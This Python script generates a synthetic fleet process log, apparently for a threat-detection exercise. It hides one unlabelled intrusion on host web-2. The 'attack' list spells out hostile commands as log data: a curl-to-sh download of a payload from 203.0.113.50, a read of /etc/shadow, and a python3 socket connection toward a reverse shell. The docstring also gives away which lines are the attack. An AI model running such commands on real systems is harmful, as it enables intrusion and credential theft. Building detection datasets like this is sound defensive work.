#!/usr/bin/env python3
"""Writes events.jsonl: process-launch logs of a small fleet (deterministic, seed 7).

Background: developers on their workstations, web servers run by nginx/systemd, a CI runner,
a database host. Inside it, one attack on web-2: the nginx worker spawns a shell that downloads
and runs a payload, reads credentials and opens a reverse shell. The attack lines carry no label
in the data; they are the lines whose `host` is web-2 and whose `parent` chain starts at nginx
with a shell (see README).
"""
import json, random, datetime

rng = random.Random(7)
start = datetime.datetime(2024, 5, 6, 7, 0, 0, tzinfo=datetime.timezone.utc)

habits = {
    ("dev-alice", "alice"): [("bash", "git", 30), ("bash", "cargo", 25), ("bash", "vim", 15), ("cargo", "rustc", 40), ("bash", "ls", 20), ("git", "ssh", 8), ("bash", "python3", 5)],
    ("dev-bob", "bob"): [("zsh", "git", 25), ("zsh", "node", 30), ("node", "npm", 15), ("zsh", "code", 10), ("zsh", "ls", 15), ("npm", "sh", 10), ("zsh", "docker", 6)],
    ("dev-carol", "carol"): [("bash", "python3", 40), ("bash", "jupyter", 10), ("python3", "sh", 5), ("bash", "git", 20), ("bash", "less", 10), ("bash", "ls", 15)],
    ("web-1", "www-data"): [("nginx", "nginx", 50), ("systemd", "logrotate", 2), ("cron", "certbot", 1)],
    ("web-2", "www-data"): [("nginx", "nginx", 50), ("systemd", "logrotate", 2), ("cron", "certbot", 1)],
    ("web-1", "root"): [("systemd", "sshd", 3), ("sshd", "bash", 3), ("bash", "apt", 1), ("systemd", "journald", 2)],
    ("web-2", "root"): [("systemd", "sshd", 3), ("sshd", "bash", 3), ("bash", "apt", 1), ("systemd", "journald", 2)],
    ("ci-1", "runner"): [("runner", "docker", 30), ("docker", "containerd-shim", 30), ("runner", "make", 20), ("make", "cc", 25), ("make", "sh", 15), ("runner", "git", 10)],
    ("db-1", "postgres"): [("postgres", "postgres", 60), ("cron", "pg_dump", 2), ("pg_dump", "gzip", 2)],
}
attack = [
    ("nginx", "sh", "sh -c 'curl -s http://203.0.113.50/x.sh | sh'"),
    ("sh", "curl", "curl -s http://203.0.113.50/x.sh"),
    ("sh", "sh", "sh"),
    ("sh", "whoami", "whoami"),
    ("sh", "cat", "cat /etc/shadow"),
    ("sh", "python3", "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.50\",4444))'"),
]

def pick(options):
    total = sum(w for _, _, w in options)
    x = rng.uniform(0, total)
    for p, c, w in options:
        x -= w
        if x <= 0:
            return p, c
    return options[-1][:2]

events = []
t = start
keys = sorted(habits)
n = 0
while len(events) < 2400:
    t += datetime.timedelta(seconds=rng.randint(5, 90))
    host, user = rng.choice(keys)
    parent, proc = pick(habits[(host, user)])
    events.append({"timestamp": t.strftime("%Y-%m-%dT%H:%M:%SZ"), "event_id": f"evt-{len(events)+1:06d}",
                   "host": {"name": host}, "user": {"name": user}, "process": {"parent": {"name": parent}, "name": proc,
                   "pid": rng.randint(1000, 65000), "command_line": proc}})
    if len(events) == 2000:  # the attack, late enough for the fleet's habits to be known
        for parent, proc, cmd in attack:
            t += datetime.timedelta(seconds=rng.randint(2, 20))
            events.append({"timestamp": t.strftime("%Y-%m-%dT%H:%M:%SZ"), "event_id": f"evt-{len(events)+1:06d}",
                           "host": {"name": "web-2"}, "user": {"name": "www-data"},
                           "process": {"parent": {"name": parent}, "name": proc, "pid": rng.randint(1000, 65000), "command_line": cmd}})
with open("events.jsonl", "w") as f:
    for e in events:
        f.write(json.dumps(e, separators=(",", ":")) + "\n")
